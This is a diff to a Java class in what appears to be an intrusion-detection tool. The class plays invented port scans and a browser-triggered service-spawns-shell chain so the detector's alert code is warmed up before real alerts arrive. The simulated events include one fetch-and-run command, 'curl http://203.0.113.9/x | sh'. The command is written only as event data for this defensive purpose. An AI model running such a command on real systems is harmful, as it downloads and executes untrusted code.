@@ -13,24 +13,28 @@ import dev.rubato.event.ProcessKey;
 import java.util.List;
 
 /**
- * Plays invented scans and spawn chains to a pipeline of its own, so that the code of an alert is loaded and compiled when
- * the first real one comes; otherwise that one takes tenths of a second, and the twenty after it milliseconds each. What
- * comes of it goes to the given sinks alone. Owned by one thread.
+ * Plays invented scans and spawn chains to a pipeline of its own, so that the code of an alert is loaded and compiled
+ * when the first real one comes; otherwise that one takes tenths of a second, and the twenty after it milliseconds each.
+ * What comes of it goes to the given sinks alone. Owned by one thread.
  *
- * <p>A few rounds at the start load the code. The compiler has thousands of methods to do then, and as long as it is behind
- * it asks for more calls of each before it takes it; so most rounds are for the quiet moments after that.
+ * <p>A few rounds at the start load the code. The compiler has thousands of methods to do then, and as long as it is
+ * behind it asks for more calls of each before it takes it; so most rounds are for the quiet moments after that.
  */
 final class Rehearsal {
-    /** Rounds before anything is watched: each has two scans and a spawn chain, with an alert and updates each. */
+    /**
+     * Rounds before anything is watched. Each has three parts: two scans and a spawn chain, with an alert of each and
+     * updates.
+     */
     static final int ROUNDS = 4;
 
     /**
      * Rounds after that. With the threshold that {@code bin/rubato} sets, a method's calls are looked at after each
-     * thirty-second, and it is compiled from eighty on: what is called once a scan takes 48 rounds, and some more while the
-     * compiler is behind.
+     * thirty-second, and it is compiled from eighty on. What is called for each scan has them after 48 rounds; what is
+     * called for each chain alone is loaded, and compiled if a real one calls it again and again.
      */
     static final int LATER_ROUNDS = 60;
 
+    private static final int PARTS = 3;
     private static final int CONTACTS = 12;
     private static final long STEP_NS = 10_000_000L;
 
@@ -42,7 +46,10 @@ final class Rehearsal {
     private static final int HTTPS = 443;
     private static final int FIRST_SERVICE_PORT = 8_081;
     private static final int SOURCE_PORTS = 50_000;
-    private static final int TTY = 34_816;
+
+    /** The device /dev/pts/0. */
+    private static final int TTY = 136 << Byte.SIZE;
+
     private static final Address HERE = Address.ofV4(10 << 24 | 1);
     private static final Address LOOPBACK = Address.ofV4(127 << 24 | 1);
 
@@ -54,7 +61,7 @@ final class Rehearsal {
     private final Pipeline pipeline;
     private final ProcessKey shell;
     private long timeNs = PAUSE_NS;
-    private int round;
+    private int part;
     private int nextPid = FIRST_PID;
     private long nextSocket = 1;
 
@@ -73,25 +80,28 @@ final class Rehearsal {
 
     /** Plays the first rounds. */
     void begin() {
-        while (round < ROUNDS) {
-            playRound();
+        while (part < ROUNDS * PARTS) {
+            playPart();
         }
     }
 
-    /** Plays one more round, which takes some milliseconds; whether there is another. */
+    /** Plays one more part; whether there is another. */
     boolean goOn() {
-        playRound();
-        return round < ROUNDS + LATER_ROUNDS;
+        playPart();
+        return part < (ROUNDS + LATER_ROUNDS) * PARTS;
     }
 
-    private void playRound() {
-        sweepOfAddresses();
-        sweepOfPorts();
-        page();
-        round++;
+    private void playPart() {
+        int round = part / PARTS;
+        switch (part % PARTS) {
+            case 0 -> sweepOfAddresses(round);
+            case 1 -> sweepOfPorts(round);
+            default -> page(round);
+        }
+        part++;
     }
 
-    private void sweepOfAddresses() {
+    private void sweepOfAddresses(int round) {
         ProcessKey scanner = spawn(shell, Stdin.TERMINAL, "/usr/bin/scanner", "--password", "example");
         for (int i = 1; i <= CONTACTS; i++) {
             connect(
@@ -104,7 +114,7 @@ final class Rehearsal {
         pause();
     }
 
-    private void sweepOfPorts() {
+    private void sweepOfPorts(int round) {
         ProcessKey scanner = spawn(shell, Stdin.TERMINAL, "/usr/bin/scanner", "ports");
         for (int i = 1; i <= CONTACTS; i++) {
             connect(scanner, LOOPBACK, LOOPBACK, round * CONTACTS + i, Event.Outcome.REFUSED);
@@ -112,8 +122,11 @@ final class Rehearsal {
         pause();
     }
 
-    /** A page in a browser makes a service start a shell: each time another one, as none may make a habit of it. */
-    private void page() {
+    /**
+     * A page in a browser makes a service start a shell, which goes out: each time another service, as a habit would
+     * raise no alert.
+     */
+    private void page(int round) {
         int port = FIRST_SERVICE_PORT + round;
         ProcessKey service = spawn(shell, Stdin.TERMINAL, "/usr/bin/node", "server" + round + ".js");
         pipeline.accept(new Event.ListenerOpened(timeNs, nextSocket++, LOOPBACK, port, service, Event.Basis.EXACT));
@@ -123,7 +136,8 @@ final class Rehearsal {
                 browser, Stdin.NULL_DEVICE, "/proc/self/exe", "--type=utility", "--utility-sub-type=network.mojom");
         connect(network, HERE, PAGE, HTTPS, Event.Outcome.ESTABLISHED);
         connect(network, LOOPBACK, LOOPBACK, port, Event.Outcome.ESTABLISHED);
-        spawn(service, Stdin.PIPE, "/bin/sh", "-c", "curl http://203.0.113.9/x | sh");
+        ProcessKey started = spawn(service, Stdin.PIPE, "/bin/sh", "-c", "curl http://203.0.113.9/x | sh");
+        connect(started, HERE, PAGE, HTTPS, Event.Outcome.ESTABLISHED);
         pause();
     }
 
